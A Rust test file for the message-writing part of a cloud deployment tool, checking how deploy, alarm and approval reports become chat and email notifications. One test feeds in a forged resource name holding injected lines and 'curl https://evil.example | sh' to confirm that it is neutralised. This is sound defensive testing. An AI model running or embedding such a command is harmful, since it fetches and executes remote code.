//! What people read.

use std::collections::BTreeMap;

use serde_json::json;

use super::*;
use crate::memory::news;
use crate::report::{Action, Failure, Hint, Problem};
use crate::undo::{Choice, Undo};

const SERVICE: &str = "arn:aws:ecs:ap-northeast-2:123456789012:service/truegul-production/api-server";

const SITE: Site<'_> = Site {
    invoke_as: "nightshift-deploy-image",
    region: Some("ap-northeast-2"),
    console: Some("console.aws.amazon.com"),
    routine: Routine::Each,
    runbooks: None,
};

fn action(headline: &str, outcome: Outcome) -> Action {
    Action {
        resource: SERVICE.into(),
        action: "deploy",
        headline: headline.into(),
        tells: match headline {
            it if it.ends_with("asked for") => None,
            it if it.ends_with("is rejected") => Some(MessageKind::Failed),
            it if it.ends_with("asleep") => Some(MessageKind::Routine),
            _ => Some(MessageKind::Changed),
        },
        is_in_daily_report: false,
        story: None,
        reason: "v1.1.0 is the newest image".into(),
        before: json!({"image": "v1.0.0", "task_definition": "api-server:41"}),
        after: json!({"image": "v1.1.0", "task_definition": "api-server:42"}),
        outcome,
        error: (outcome == Outcome::Failed).then(|| Failure {
            code: "AccessDeniedException".into(),
            message: "UpdateService api-server: denied".into(),
            request_id: Some("1a2b".into()),
        }),
        undo: Some("aws lambda invoke ...".into()),
        choices: Vec::new(),
        offer: None,
    }
}

fn report(actions: Vec<Action>, problems: Vec<Problem>) -> Report {
    let at = "2026-11-21T03:10:00+09:00[Asia/Seoul]".parse().unwrap();
    Report { actions, problems, ..Report::new("deploy-image", at) }
}

fn bad_tag() -> Problem {
    let message = "unknown word 'x'".into();
    Problem {
        resource: SERVICE.into(),
        problem: "bad-tag".into(),
        message,
        kind: MessageKind::NeedsYou,
        story: None,
        choices: Vec::new(),
        monthly: false,
    }
}

fn all(report: &Report) -> Vec<Message> {
    messages(report, &news(report, &BTreeMap::new(), &report.at), &SITE)
}

/// The only message.
fn written(report: &Report) -> Option<Message> {
    let mut messages = all(report);
    assert!(messages.len() <= 1, "{messages:#?}");
    messages.pop()
}

#[test]
fn however_much_went_wrong_the_message_is_one_that_sns_takes() {
    let mut report = report(Vec::new(), Vec::new());
    for index in 0..100 {
        let (resource, problem) = (format!("arn:{index}"), "odd".to_owned());
        report.problems.push(Problem {
            resource,
            problem,
            message: "뒤".repeat(3000),
            kind: MessageKind::NeedsYou,
            story: None,
            choices: Vec::new(),
            monthly: false,
        });
    }
    let message = written(&report).unwrap();
    assert!(message.text.len() < 61_000, "{}", message.text.len());
    assert!(message.text.ends_with("KST\n") && message.text.contains("the rest is in the log"));
    assert!(message.chat.to_string().len() < 6_000);
}

#[test]
fn a_run_that_changed_failed_and_found_something_says_all_of_it() {
    let report = report(
        vec![
            action("api-server: deploying v1.1.0 (was v1.0.0)", Outcome::Done),
            action("ml-server: deploying v1.1.0 (was v1.0.0)", Outcome::Failed),
            action("web: v1.2.0 is rejected", Outcome::Done),
            action("web: going back to v1.1.0 from v1.2.0", Outcome::Done),
        ],
        vec![bad_tag()],
    );
    let message = written(&report).unwrap();
    insta::assert_snapshot!(message.subject);
    insta::assert_snapshot!(message.text);
    insta::assert_json_snapshot!(message.chat);
}

#[test]
fn each_kind_is_a_message_of_its_own_and_a_story_is_never_split() {
    let of = |resource: &str, headline: &str, outcome| Action {
        resource: format!("arn:{resource}"),
        ..action(headline, outcome)
    };
    let report = report(
        vec![
            of("web", "web: v2 is rejected", Outcome::Done),
            of("web", "web: going back to v1", Outcome::Done),
            of("api", "api: v3 is live", Outcome::Done),
            of("db", "db: asleep", Outcome::Done),
            of("queue", "queue: asleep", Outcome::Failed),
            of("queue", "queue: asleep", Outcome::Done),
        ],
        vec![bad_tag()],
    );
    let told: Vec<_> = all(&report).into_iter().map(|it| (it.kind.as_str(), it.resources.join(" "))).collect();
    let expected =
        [("needs-you", SERVICE), ("failed", "arn:queue arn:web"), ("changed", "arn:api"), ("routine", "arn:db")];
    assert_eq!(told, expected.map(|(kind, resources)| (kind, resources.to_owned())));
}

#[test]
fn nobody_is_told_of_a_dry_run_or_of_a_run_that_did_nothing() {
    assert_eq!(written(&report(vec![], vec![])), None);
    assert_eq!(written(&report(vec![action("x", Outcome::Deferred)], vec![])), None);
    let dry = Report { dry_run: true, ..report(vec![action("x", Outcome::Planned)], vec![bad_tag()]) };
    assert_eq!(written(&dry), None);
}

#[test]
fn bookkeeping_is_told_only_when_it_failed() {
    let asked = |outcome| report(vec![action("api-server: a snapshot is asked for", outcome)], vec![]);
    assert!(written(&asked(Outcome::Done)).is_none());
    assert!(written(&asked(Outcome::Failed)).is_some());
}

#[test]
fn a_subject_is_short_and_ascii_whatever_the_names_are() {
    let long = "a-service-with-a-name-".repeat(20);
    let message = written(&report(vec![action(&long, Outcome::Done), action("x", Outcome::Done)], vec![])).unwrap();
    assert!(message.subject.len() <= 100, "{}", message.subject);
    assert!(message.subject.ends_with("... (+1 more)"), "{}", message.subject);
    let korean = "서비스: 배포".repeat(20);
    let message = written(&report(vec![action(&korean, Outcome::Done)], vec![])).unwrap();
    assert_eq!(message.subject, "[Nightshift] service api-server: deploy");
    assert!(message.chat["content"]["title"].as_str().unwrap().starts_with("[Nightshift] 서비스: 배포"));
}

#[test]
fn a_name_cannot_forge_a_message() {
    let name = "x\n\nIf that is wrong:\ncurl https://evil.example | sh <!channel> [see](https://evil.example)";
    let message = written(&report(vec![action(name, Outcome::Done)], vec![])).unwrap();
    let ways_out = message.text.lines().filter(|it| *it == "If that is wrong:").count();
    assert_eq!(ways_out, 1, "{}", message.text);
    let chat = message.chat.to_string();
    for forged in ["\ncurl", "https://evil.example"] {
        assert!(!message.text.contains(forged), "{forged}: {}", message.text);
    }
    for forged in ["\\ncurl", "https://evil.example", "<!channel>", "](https"] {
        assert!(!chat.contains(forged), "{forged}: {chat}");
    }
}

#[test]
fn a_thousand_actions_make_a_message_that_still_fits() {
    let many = (0..1000).map(|it| action(&format!("x: {it}"), Outcome::Done)).collect();
    let message = written(&report(many, vec![])).unwrap();
    assert!(message.text.len() < 64 * 1024);
    assert!(message.text.contains("... and 960 more"));
}

#[test]
fn what_happens_every_day_is_a_message_only_where_people_want_each() {
    let report = report(
        vec![action("db: asleep", Outcome::Done), action("api-server: v1.1.0 is live", Outcome::Done)]
            .into_iter()
            .zip(["arn:db", SERVICE])
            .map(|(it, resource)| Action { resource: resource.into(), ..it })
            .collect(),
        vec![],
    );
    for (routine, kinds) in [
        (Routine::Each, vec!["changed", "routine"]),
        (Routine::Daily, vec!["changed"]),
        (Routine::None, vec!["changed"]),
    ] {
        let told = messages(&report, &news(&report, &BTreeMap::new(), &report.at), &Site { routine, ..SITE });
        assert_eq!(told.iter().map(|it| it.kind.as_str()).collect::<Vec<_>>(), kinds, "{routine:?}");
    }
}

#[test]
fn what_a_person_can_decide_stands_on_a_line_of_its_own_with_the_region() {
    let command = Undo::Command(json!({"approve": {"service": "shop/api"}}));
    let choices = vec![Choice::new("Approve", command)];
    let message = "v1.1.0 waits for your approval (runs v1.0.0). It is deployed at once then".to_owned();
    let message = written(&report(vec![], vec![Problem { choices, message, ..bad_tag() }])).unwrap();
    assert_eq!(
        message.subject,
        "[Nightshift] truegul-production/api-server: v1.1.0 waits for your approval (runs v1.0.0)"
    );
    let command = "printf %s '{\"approve\":{\"service\":\"shop/api\"},\"format\":\"text\"}' | aws lambda invoke \
                   --region ap-northeast-2 --function-name nightshift-deploy-image --payload fileb:///dev/stdin \
                   /dev/stderr >/dev/null";
    assert!(message.text.contains(&format!("\nApprove:\n{command}\n")), "{}", message.text);
    assert_eq!(message.chat["content"]["nextSteps"], json!([format!("Approve: `{command}`")]));
    assert_eq!(message.chat["metadata"]["threadId"], "service/truegul-production/api-server 2026-11-21");
}

#[test]
fn a_link_leads_into_the_console_of_the_partition() {
    let linked_at = |arn: &str, kind, site: &Site<'_>| {
        let report = report(vec![Action { resource: arn.into(), ..action("x", Outcome::Done) }], vec![]);
        let part = Part { done: report.actions.iter().collect(), ..Part::default() };
        link::links(&link::About::of(&report, &part, &[arn.to_owned()]), kind, site)
    };
    let linked = |arn: &str, kind| linked_at(arn, kind, &SITE);
    let (needs_you, changed) = (MessageKind::NeedsYou, MessageKind::Changed);
    let console = "https://ap-northeast-2.console.aws.amazon.com";
    let service = format!("{console}/ecs/v2/clusters/truegul-production/services/api-server");
    assert_eq!(
        linked(SERVICE, needs_you),
        [
            ("Service", format!("{service}/health?region=ap-northeast-2")),
            ("Logs", format!("{service}/logs?region=ap-northeast-2"))
        ]
    );
    assert_eq!(linked(SERVICE, changed).len(), 1);
    for (arn, page) in [
        (
            "arn:aws:rds:ap-northeast-2:1:db:app-db",
            "rds/home?region=ap-northeast-2#database:id=app-db;is-cluster=false",
        ),
        ("arn:aws:rds:ap-northeast-2:1:cluster:c", "rds/home?region=ap-northeast-2#database:id=c;is-cluster=true"),
        (
            "arn:aws:cloudwatch:ap-northeast-2:1:alarm:5xx of <api>",
            "cloudwatch/home?region=ap-northeast-2#alarmsV2:alarm/5xx%20of%20%3Capi%3E",
        ),
        (
            "arn:aws:ecr:ap-northeast-2:1:repository/shop/api",
            "ecr/repositories/private/1/shop%2Fapi?region=ap-northeast-2",
        ),
        (
            "arn:aws:ec2:ap-northeast-2:1:instance/i-0ab1",
            "ec2/home?region=ap-northeast-2#InstanceDetails:instanceId=i-0ab1",
        ),
        (
            "arn:aws:autoscaling:ap-northeast-2:1:autoScalingGroup:7f3a:autoScalingGroupName/web one",
            "ec2/home?region=ap-northeast-2#AutoScalingGroupDetails:id=web%20one",
        ),
        ("deploy-image", "lambda/home?region=ap-northeast-2#/functions/nightshift-deploy-image?tab=monitoring"),
    ] {
        assert_eq!(linked(arn, changed)[0].1, format!("{console}/{page}"));
    }
    assert_eq!(
        linked("arn:aws:budgets::1:budget/a", changed),
        [("Budgets", "https://console.aws.amazon.com/costmanagement/home#/budgets".to_owned())]
    );
    assert_eq!(
        linked("arn:aws:s3:::kfood-uploads", changed),
        [("Bucket", "https://console.aws.amazon.com/s3/buckets/kfood-uploads".to_owned())]
    );
    let without = Site { console: None, ..SITE };
    let log = [("Log group", "/aws/lambda/nightshift-deploy-image".to_owned())];
    assert_eq!(linked_at(SERVICE, changed, &without), log);
}

#[test]
fn the_day_is_one_message_with_a_line_for_each_thing() {
    let lines = ["db: asleep since Fri 20:00".to_owned(), "api: live since Fri 14:00".to_owned()];
    let message = digest(&report(vec![], vec![]), "Daily report", &lines, &SITE);
    assert_eq!(
        (message.kind, message.subject.as_str()),
        (MessageKind::Routine, "[Nightshift] Daily report, Sat 2026-11-21")
    );
    assert!(message.text.starts_with("db: asleep since Fri 20:00\napi: live since Fri 14:00\n\n"), "{}", message.text);
    assert!(message.text.contains("Its runs: https://"), "{}", message.text);
}

#[test]
fn the_messages_of_a_service_and_of_its_alarms_begin_with_the_same_words_and_are_one_thread() {
    let alarm = "arn:aws:cloudwatch:ap-northeast-2:1:alarm:api-5xx";
    let told = |headline: &str, resource: &str, story: Option<&str>| {
        let (resource, story) = (resource.to_owned(), story.map(str::to_owned));
        let message = written(&report(vec![Action { resource, story, ..action(headline, Outcome::Done) }], vec![]));
        let message = message.unwrap();
        assert_eq!(message.chat["metadata"]["threadId"], "service/truegul-production/api-server 2026-11-21");
        assert!(message.text.contains("/services/api-server/"), "{}", message.text);
        message.subject.trim_start_matches("[Nightshift] truegul-production/api-server: ").to_owned()
    };
    for headline in ["api-server: asleep", "truegul-production/api-server: asleep"] {
        assert_eq!(told(headline, SERVICE, None), "asleep");
    }
    let restarting = "api-5xx: restarting truegul-production/api-server";
    assert_eq!(told(restarting, SERVICE, Some(SERVICE)), "api-5xx: restarting");
    assert_eq!(told("api-5xx: recovered", alarm, Some(SERVICE)), "api-5xx: recovered");
    let story = Some(SERVICE.to_owned());
    let problem = Problem { resource: alarm.into(), story, message: "it is still in ALARM".into(), ..bad_tag() };
    let message = written(&report(vec![], vec![problem])).unwrap();
    assert_eq!(message.subject, "[Nightshift] truegul-production/api-server: api-5xx: it is still in ALARM");
    assert_eq!(message.chat["metadata"]["threadId"], "service/truegul-production/api-server 2026-11-21");
}

#[test]
fn hints_lead_to_the_runbook_the_logs_of_that_hour_and_what_is_related() {
    let alarm = "arn:aws:cloudwatch:ap-northeast-2:1:alarm:api-5xx";
    let hints = [
        Hint::LogGroup("/ecs/api server".into()),
        Hint::Related(alarm.into()),
        Hint::Runbook("https://wiki.example/api".into()),
    ];
    let of = |outcome| Report {
        hints: [(SERVICE.to_owned(), hints.clone().into())].into(),
        ..report(vec![action("api-server: stops", outcome)], vec![])
    };
    let text = written(&of(Outcome::Failed)).unwrap().text;
    for line in [
        "Runbook: https://wiki.example/api",
        "Alarm: https://ap-northeast-2.console.aws.amazon.com/cloudwatch/home?region=ap-northeast-2#alarmsV2:alarm/api-5xx",
        "Logs of that hour: https://ap-northeast-2.console.aws.amazon.com/cloudwatch/home?region=ap-northeast-2\
         #logsV2:log-groups/log-group/$252Fecs$252Fapi$2520server/log-events$3Fstart$3D1795194600000$26end$3D1795198500000",
    ] {
        assert!(text.lines().any(|it| it == line), "{line} is not in {text}");
    }
    assert!(!text.contains("Logs: "), "{text}");
    // What went well needs neither.
    let text = written(&of(Outcome::Done)).unwrap().text;
    assert!(!text.contains("Runbook") && !text.contains("Logs of that hour"), "{text}");
}

#[test]
fn what_names_no_runbook_leads_to_the_page_of_its_problem() {
    let base = "https://wiki.example/ops".parse().unwrap();
    let site = Site { runbooks: Some(&base), ..SITE };
    let runbooks = |report: &Report| {
        let told = messages(report, &news(report, &BTreeMap::new(), &report.at), &site);
        assert_eq!(told.len(), 1);
        let lines = told[0].text.lines().filter_map(|it| it.strip_prefix("Runbook: "));
        let lines: Vec<String> = lines.map(str::to_owned).collect();
        let card = told[0].chat.to_string();
        assert!(lines.iter().all(|it| card.contains(it.as_str())), "{card}");
        lines
    };
    assert_eq!(runbooks(&report(vec![], vec![bad_tag()])), ["https://wiki.example/ops/bad-tag"]);
    let failed = report(vec![action("api-server: stops", Outcome::Failed)], vec![]);
    assert_eq!(runbooks(&failed), ["https://wiki.example/ops/failed"]);
    let refused = Report { refused: Some(crate::Refused::Plan("600 changes".into())), ..report(vec![], vec![]) };
    assert_eq!(runbooks(&refused), ["https://wiki.example/ops/too-many-changes"]);
    // Its own page comes first, and what went well needs none.
    let own = [Hint::Runbook("https://wiki.example/api".into())].into();
    let failed = Report { hints: [(SERVICE.to_owned(), own)].into(), ..failed };
    assert_eq!(runbooks(&failed), ["https://wiki.example/api"]);
    assert_eq!(runbooks(&report(vec![action("api-server: deploying v1", Outcome::Done)], vec![])), [""; 0]);
}

#[test]
fn what_the_report_of_the_day_tells_is_told_at_once_only_without_it() {
    let live = |resource: &str| Action {
        resource: resource.into(),
        tells: Some(MessageKind::Changed),
        is_in_daily_report: true,
        ..action("api: v1.1.0 is live", Outcome::Done)
    };
    let subjects = |report: &Report, routine| {
        let told = messages(report, &news(report, &BTreeMap::new(), &report.at), &Site { routine, ..SITE });
        told.into_iter().map(|it| format!("{} {}", it.kind, it.subject)).collect::<Vec<_>>()
    };
    let one = report(vec![live("api")], vec![]);
    for (routine, expected) in [(Routine::Daily, 0), (Routine::Each, 1), (Routine::None, 1)] {
        assert_eq!(subjects(&one, routine), vec!["changed [Nightshift] api: v1.1.0 is live"; expected]);
    }
    // With another change of the same resource it is one story, and of another resource it is not.
    let gone_back = action("api: going back to v1.0.0", Outcome::Done);
    let gone_back = Action { resource: "api".into(), tells: Some(MessageKind::Changed), ..gone_back };
    let both = report(vec![live("api"), gone_back, live("web")], vec![]);
    let told = subjects(&both, Routine::Daily);
    assert_eq!((told.len(), told[0].ends_with(" (+1 more)")), (1, true), "{told:?}");
}

#[test]
fn only_the_addresses_of_own_buckets_stay_addresses() {
    let bucket = "arn:aws:s3:::uploads";
    let message = "the copy to s3://backups/uploads/ is not good; see s3://evil/x".to_owned();
    let problem = Problem { resource: bucket.into(), message, ..bad_tag() };
    let hints = [(bucket.to_owned(), [Hint::Related("arn:aws:s3:::backups".into())].into())].into();
    let message = written(&Report { hints, ..report(vec![], vec![problem]) }).unwrap();
    for text in [&message.text, &message.chat.to_string()] {
        assert!(text.contains("s3://backups/uploads/") && text.contains("s3[:]//evil/x"), "{text}");
    }
    assert!(message.text.contains("Bucket: https://console.aws.amazon.com/s3/buckets/backups"), "{}", message.text);
}

#[test]
fn a_card_has_a_button_for_each_thing_that_it_alone_offers() {
    let offer = |image: &str| Undo::Command(json!({"approve": {"service": "shop/api", "image": image}}));
    let asks = |images: &[&str]| {
        let choices = images.iter().map(|it| Choice::new("Approve", offer(it))).collect();
        let message = written(&report(vec![], vec![Problem { choices, ..bad_tag() }])).unwrap();
        message.chat["metadata"].clone()
    };
    let value = crate::Button::offered(&offer("sha256:1"), "deploy-image", "2026-11-21".parse().unwrap()).unwrap().1;
    let one = asks(&["sha256:1"]);
    assert_eq!((&one["enableCustomActions"], &one["additionalContext"]), (&json!(true), &json!({"approve": value})));
    for none in [asks(&[]), asks(&["sha256:1", "sha256:2"])] {
        assert_eq!((&none["enableCustomActions"], &none["additionalContext"]), (&Value::Null, &Value::Null));
    }
}

#[test]
fn what_has_a_name_of_its_own_is_called_by_it_and_its_id_stands_in_the_text() {
    let instance = "arn:aws:ec2:ap-northeast-2:1:instance/i-0ab1";
    let named = |report: Report| Report { names: [(instance.to_owned(), "api on web-1".to_owned())].into(), ..report };
    let problem = Problem { resource: instance.into(), message: "v2 waits: it is stopped".into(), ..bad_tag() };
    let message = written(&named(report(vec![], vec![problem]))).unwrap();
    assert_eq!(message.subject, "[Nightshift] api on web-1: v2 waits: it is stopped");
    assert!(message.text.contains("Problem: bad-tag (instance i-0ab1)"), "{}", message.text);
    let stops = Action { resource: instance.into(), ..action("i-0ab1: is stopped", Outcome::Done) };
    let message = written(&named(report(vec![stops], vec![]))).unwrap();
    assert_eq!(message.subject, "[Nightshift] api on web-1: is stopped");
    assert_eq!(message.chat["metadata"]["threadId"], "instance/i-0ab1 2026-11-21");
}

#[test]
fn a_command_stands_in_a_message_once_and_of_several_each_says_what_it_takes_back() {
    let undone = |headline: &str, undo: &str| Action { undo: Some(undo.into()), ..action(headline, Outcome::Done) };
    let told = |actions| {
        let message = written(&report(actions, vec![])).unwrap();
        let lines: Vec<&str> = message.text.lines().collect();
        let of = |word: &str| lines.iter().filter(|it| it.starts_with(word)).map(|it| it.to_string()).collect();
        let commands: Vec<String> = of("aws ");
        let labels: Vec<String> = of("If ");
        let steps = message.chat["content"]["nextSteps"].as_array().map_or(0, Vec::len);
        assert_eq!(steps, commands.len(), "{}", message.chat);
        (commands, labels)
    };
    let (back, rejected) = ("api-server: going back to v1", "api-server: v2 is rejected");
    let (commands, labels) = told(vec![undone(rejected, "aws clear v2"), undone(back, "aws clear v2")]);
    assert_eq!((commands, labels), (vec!["aws clear v2".into()], vec!["If that is wrong:".into()]));
    let (commands, labels) = told(vec![undone(back, "aws back"), undone(rejected, "aws clear v2")]);
    assert_eq!(commands, ["aws back", "aws clear v2"]);
    let expected = ["If this is wrong, \"going back to v1\":", "If this is wrong, \"v2 is rejected\":"];
    assert_eq!(labels, expected);

    let approve = |service: &str, image: &str| {
        let command = Undo::Command(json!({"approve": {"service": service, "image": image}}));
        let resource = format!("arn:aws:ecs:r:1:service/{service}");
        Problem { resource, choices: vec![Choice::new("Approve", command)], ..bad_tag() }
    };
    let labels = |problems| {
        let text = written(&report(vec![], problems)).unwrap().text;
        text.lines().filter(|it| it.starts_with("Approve")).map(str::to_owned).collect::<Vec<_>>()
    };
    assert_eq!(
        labels(vec![approve("shop/api", "v2"), approve("shop/web", "v3")]),
        ["Approve, shop/api:", "Approve, shop/web:"]
    );
    assert_eq!(
        labels(vec![approve("shop/api", "v2"), approve("shop/api", "v3")]),
        ["Approve, 1 of 2:", "Approve, 2 of 2:"]
    );
    assert_eq!(labels(vec![approve("shop/api", "v2")]), ["Approve:"]);
}

#[test]
fn what_only_programs_compare_and_what_did_not_change_is_not_told() {
    let changed = |before, after| {
        let message =
            written(&report(vec![Action { before, after, ..action("x: y", Outcome::Done) }], vec![])).unwrap();
        message.text.lines().nth(2).unwrap_or_default().to_owned()
    };
    let after =
        json!({"image": "v2", "key": "ns-1a2b-1", "digest": "sha256:1", "started_by": "ns-2", "command": "0a1b"});
    assert_eq!(changed(json!({"image": "v1"}), after), "image v1 -> image v2");
    assert_eq!(changed(json!({"desired": 2}), json!({"desired": 2, "nightshift-state:hold": "by=x"})), "");
    assert_eq!(changed(json!({"desired": 2}), json!({"nightshift-state:boost": "step=1"})), "Before: desired 2");
}

#[test]
fn what_a_problem_or_a_later_step_says_too_is_told_once() {
    let refused = "reboot is refused: shop-db is storage-full";
    let left = Action {
        tells: Some(MessageKind::NeedsYou),
        reason: refused.into(),
        ..action("api-server: needs you", Outcome::Done)
    };
    let message = format!("{refused}; it fired at 03:10");
    let told = |problems| written(&report(vec![left.clone()], problems)).unwrap();
    let once = told(vec![Problem { message, ..bad_tag() }]);
    assert_eq!(once.subject, format!("[Nightshift] truegul-production/api-server: {refused}"));
    assert_eq!(once.text.matches(refused).count(), 1, "{}", once.text);
    // Beside another problem, and where the problem was told before, it is told.
    assert!(told(vec![bad_tag()]).text.contains(refused));
    assert_eq!(told(vec![]).subject, "[Nightshift] truegul-production/api-server: needs you");

    let cleared = |reason: &str| Action { reason: reason.into(), ..action("api-server: v2 is cleared", Outcome::Done) };
    let message = written(&report(vec![cleared("forgiven"), cleared("by a person")], vec![])).unwrap();
    assert_eq!(message.subject, "[Nightshift] truegul-production/api-server: v2 is cleared");
    assert!(message.text.contains("Why: by a person") && !message.text.contains("forgiven"), "{}", message.text);
}
